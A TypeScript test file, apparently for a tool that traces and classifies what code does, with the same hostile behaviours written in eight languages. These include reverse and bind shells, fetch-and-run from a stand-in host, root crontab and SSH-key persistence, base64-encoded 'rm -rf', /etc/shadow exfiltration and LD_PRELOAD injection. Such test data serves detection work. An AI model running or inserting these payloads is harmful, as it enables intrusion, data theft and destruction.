import { describe, expect, it } from 'vitest';
import { traceOf } from '../../testing/trace-of.ts';
import type { Effect } from '../effect.ts';
import type { Language } from '../story.ts';

/** How a text of each language is run in these tests. */
const runners = {
  shell: (code) => ['sh', '-c', code],
  python: (code) => ['python3', '-c', code],
  php: (code) => ['php', '-r', code],
  ruby: (code) => ['ruby', '-e', code],
  javascript: (code) => ['node', '-e', code],
  lua: (code) => ['lua', '-e', code],
  perl: (code) => ['perl', '-e', code],
  powershell: (code) => ['pwsh', '-NoProfile', '-Command', code],
} satisfies Partial<Record<Language, (code: string) => string[]>>;

type Row = Partial<Record<keyof typeof runners, string>>;

interface Behaviour {
  readonly name: string;
  /** Each must be among the effects, with these fields at least. */
  readonly effects: readonly object[];
  readonly code: Row;
}

const shellOn = (kind: 'connect' | 'listen', port: string): object => ({
  kind,
  [kind === 'connect' ? 'to' : 'at']: expect.objectContaining({ port: [port] }),
  shell: expect.anything(),
});
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** The same behaviour written in each language gives the same effects. A language that has no row here has no such means. */
const behaviours: readonly Behaviour[] = [
  {
    name: 'a reverse shell',
    effects: [shellOn('connect', '4444')],
    code: {
      shell: 'bash -i >& /dev/tcp/192.0.2.4/4444 0>&1',
      python:
        'import socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.4",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")',
      php: '$s=fsockopen("192.0.2.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
      ruby: 's=TCPSocket.new("192.0.2.4",4444);exec "/bin/sh -i", in: s, out: s, err: s',
      javascript:
        'var net=require("net"),sh=require("child_process").spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"192.0.2.4",function(){c.pipe(sh.stdin);sh.stdout.pipe(c)});',
      perl: 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("192.0.2.4")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");',
      lua: 'local s=require("socket").tcp() s:connect("192.0.2.4",4444) while true do local c=s:receive() local f=io.popen(c) s:send(f:read("*a")) end',
      powershell:
        "$c=New-Object Net.Sockets.TCPClient('192.0.2.4',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=([Text.Encoding]::ASCII).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write($o,0,9)}",
    },
  },
  {
    name: 'a shell for whoever connects',
    effects: [shellOn('listen', '4444')],
    code: {
      shell: 'nc -lvp 4444 -e /bin/sh',
      python:
        'import socket,os,subprocess\ns=socket.socket()\ns.bind(("0.0.0.0",4444))\ns.listen(1)\nc,a=s.accept()\nos.dup2(c.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])',
      php: '$s=stream_socket_server("tcp://0.0.0.0:4444");$c=stream_socket_accept($s);proc_open("/bin/sh",[$c,$c,$c],$p);',
      ruby: 's=TCPServer.new("0.0.0.0",4444).accept;spawn("/bin/sh", in: s, out: s, err: s)',
      javascript:
        'require("net").createServer(function(c){var sh=require("child_process").spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)}).listen(4444,"0.0.0.0");',
      lua: 'local c=require("socket").bind("0.0.0.0",4444):accept() while true do local f=io.popen(c:receive("*l")) c:send(f:read("*a")) end',
    },
  },
  {
    name: 'a download that is run at once',
    effects: [
      { kind: 'fetch', url: ['http://203.0.113.9/x'] },
      { kind: 'run', from: 'fetched' },
    ],
    code: {
      shell: 'curl -s http://203.0.113.9/x | sh',
      python: 'import urllib.request\nexec(urllib.request.urlopen("http://203.0.113.9/x").read())',
      php: 'eval(file_get_contents("http://203.0.113.9/x"));',
      ruby: 'require "open-uri"; eval URI.open("http://203.0.113.9/x").read',
      javascript: 'fetch("http://203.0.113.9/x").then(r=>r.text()).then(t=>eval(t))',
      lua: 'load((require("socket.http").request("http://203.0.113.9/x")))()',
      powershell: "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')",
    },
  },
  {
    name: 'a download to a file that is then run',
    effects: [
      { kind: 'fetch', url: ['http://203.0.113.9/x'], to: ['/tmp/x'] },
      { kind: 'chmod', path: ['/tmp/x'] },
      { kind: 'run', from: 'fetched' },
    ],
    code: {
      shell: 'curl -o /tmp/x http://203.0.113.9/x; chmod 755 /tmp/x; /tmp/x',
      python:
        'import urllib.request,os\nurllib.request.urlretrieve("http://203.0.113.9/x","/tmp/x")\nos.chmod("/tmp/x",0o755)\nos.system("/tmp/x")',
      php: 'copy("http://203.0.113.9/x","/tmp/x");chmod("/tmp/x",0755);system("/tmp/x");',
      ruby: 'IO.copy_stream(URI.open("http://203.0.113.9/x"),"/tmp/x");File.chmod(0755,"/tmp/x");system("/tmp/x")',
      javascript:
        'const fs=require("fs");require("http").get("http://203.0.113.9/x",r=>{const f=fs.createWriteStream("/tmp/x");r.pipe(f);f.on("finish",()=>{fs.chmodSync("/tmp/x",0o755);require("child_process").spawn("/tmp/x")})})',
      lua: 'require("socket.http").request{url="http://203.0.113.9/x",sink=ltn12.sink.file(io.open("/tmp/x","wb"))} require("posix").chmod("/tmp/x","755") os.execute("/tmp/x")',
      powershell: 'iwr http://203.0.113.9/x -OutFile /tmp/x; chmod 755 /tmp/x; & /tmp/x',
    },
  },
  {
    name: 'a line for a shell',
    effects: [{ kind: 'delete', path: ['/data'], recursive: true }],
    code: {
      shell: 'sh -c "rm -rf /data"',
      python: 'import os\nos.system("rm -rf /data")',
      php: 'shell_exec("rm -rf /data");',
      ruby: '`rm -rf /data`',
      javascript: 'require("child_process").execSync("rm -rf /data")',
      perl: 'system("rm -rf /data");',
      lua: 'os.execute("rm -rf /data")',
      powershell: "sh -c 'rm -rf /data'",
    },
  },
  {
    name: 'a program with a list of arguments',
    effects: [{ kind: 'delete', path: ['/data'], recursive: true }],
    code: {
      shell: 'rm -rf /data',
      python: 'import subprocess\nsubprocess.run(["rm","-rf","/data"])',
      php: 'pcntl_exec("/bin/rm",["-rf","/data"]);',
      ruby: 'system("rm","-rf","/data")',
      javascript: 'require("child_process").spawnSync("rm",["-rf","/data"])',
      perl: 'system("rm","-rf","/data");',
      lua: 'require("posix").exec("/bin/rm",{"-rf","/data"})',
      powershell: 'rm -rf /data',
    },
  },
  {
    name: "a job in the host's crontab",
    effects: [{ kind: 'schedule', outside: expect.any(String), user: 'root' }],
    code: {
      shell: 'echo "* * * * * root curl http://203.0.113.9/x | sh" >> /mnt/etc/crontab',
      python: 'open("/mnt/etc/crontab","a").write("* * * * * root curl http://203.0.113.9/x | sh\\n")',
      php: 'file_put_contents("/mnt/etc/crontab","* * * * * root curl http://203.0.113.9/x | sh\\n",FILE_APPEND);',
      ruby: 'File.open("/mnt/etc/crontab","a") { |f| f.puts "* * * * * root curl http://203.0.113.9/x | sh" }',
      javascript: 'require("fs").appendFileSync("/mnt/etc/crontab","* * * * * root curl http://203.0.113.9/x | sh\\n")',
      lua: 'local f=io.open("/mnt/etc/crontab","a") f:write("* * * * * root curl http://203.0.113.9/x | sh\\n") f:close()',
      powershell: "Add-Content /mnt/etc/crontab '* * * * * root curl http://203.0.113.9/x | sh'",
    },
  },
  {
    name: 'a key that opens the door',
    effects: [{ kind: 'key', path: ['/root/.ssh/authorized_keys'] }],
    code: {
      shell: 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x" >> /root/.ssh/authorized_keys',
      python: 'open("/root/.ssh/authorized_keys","a").write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n")',
      php: '$f=fopen("/root/.ssh/authorized_keys","a");fwrite($f,"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n");',
      ruby: 'File.write("/root/.ssh/authorized_keys","ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n",mode: "a")',
      javascript:
        'require("fs").promises.appendFile("/root/.ssh/authorized_keys","ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n")',
      lua: 'io.open("/root/.ssh/authorized_keys","a"):write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x\\n")',
      powershell: "'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA x' | Out-File -Append /root/.ssh/authorized_keys",
    },
  },
  {
    name: 'encoded code',
    effects: [
      { kind: 'run', from: 'decoded' },
      { kind: 'delete', path: ['/data'] },
    ],
    code: {
      shell: `echo ${base64('rm -rf /data')} | base64 -d | sh`,
      python: `import base64\nexec(base64.b64decode("${base64('import os; os.system("rm -rf /data")')}"))`,
      php: `eval(base64_decode("${base64('system("rm -rf /data");')}"));`,
      ruby: `eval("${base64('system("rm -rf /data")')}".unpack1("m"))`,
      javascript: `eval(Buffer.from("${base64('require("child_process").exec("rm -rf /data")')}","base64").toString())`,
      lua: `load(require("mime").unb64("${base64('os.execute("rm -rf /data")')}"))()`,
      powershell: `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64('rm -rf /data')}')))`,
    },
  },
  {
    name: 'a secret that is sent away',
    effects: [{ kind: 'exfiltrate', to: ['http://203.0.113.9/'] }],
    code: {
      shell: 'curl --data-binary @/etc/shadow http://203.0.113.9/',
      python: 'import requests\nrequests.post("http://203.0.113.9/",data=open("/etc/shadow").read())',
      php: '$c=curl_init("http://203.0.113.9/");curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents("/etc/shadow"));curl_exec($c);',
      ruby: 'Net::HTTP.post(URI("http://203.0.113.9/"),File.read("/etc/shadow"))',
      javascript: 'fetch("http://203.0.113.9/",{method:"POST",body:require("fs").readFileSync("/etc/shadow")})',
      lua: 'require("socket.http").request("http://203.0.113.9/",io.open("/etc/shadow"):read("*a"))',
      powershell: 'Invoke-RestMethod -Method Post -Uri http://203.0.113.9/ -Body (Get-Content -Raw /etc/shadow)',
    },
  },
  {
    name: 'killing',
    effects: [{ kind: 'kill' }],
    code: {
      shell: 'pkill -9 kdevtmpfsi',
      python: 'import os\nos.kill(1234,9)',
      php: 'posix_kill(1234,9);',
      ruby: 'Process.kill(9,1234)',
      javascript: 'process.kill(1234,9)',
      lua: 'require("posix").kill(1234,9)',
      powershell: 'Stop-Process -Id 1234 -Force',
    },
  },
  {
    name: 'a library that every program loads',
    effects: [{ kind: 'preload', library: ['/tmp/x.so'] }],
    code: {
      shell: 'export LD_PRELOAD=/tmp/x.so; ls',
      python: 'import os\nos.environ["LD_PRELOAD"]="/tmp/x.so"',
      php: 'putenv("LD_PRELOAD=/tmp/x.so");mail("a","b","c");',
      ruby: 'ENV["LD_PRELOAD"]="/tmp/x.so"',
      javascript: 'process.env.LD_PRELOAD="/tmp/x.so";require("child_process").exec("ls")',
      lua: 'require("posix").setenv("LD_PRELOAD","/tmp/x.so")',
      powershell: "$env:LD_PRELOAD='/tmp/x.so'; ls",
    },
  },
];

describe.each(behaviours)('$name', ({ code, effects }) => {
  it.each(Object.entries(code) as [keyof typeof runners, string][])('in %s', async (language, text) => {
    const story = await traceOf({ cmd: runners[language](text) });
    for (const wanted of effects) expect(plain(story.effects)).toContainEqual(expect.objectContaining(wanted));
  });
});

function plain(effects: readonly Effect[]): readonly object[] {
  return effects.map((effect) => ({ ...effect }));
}
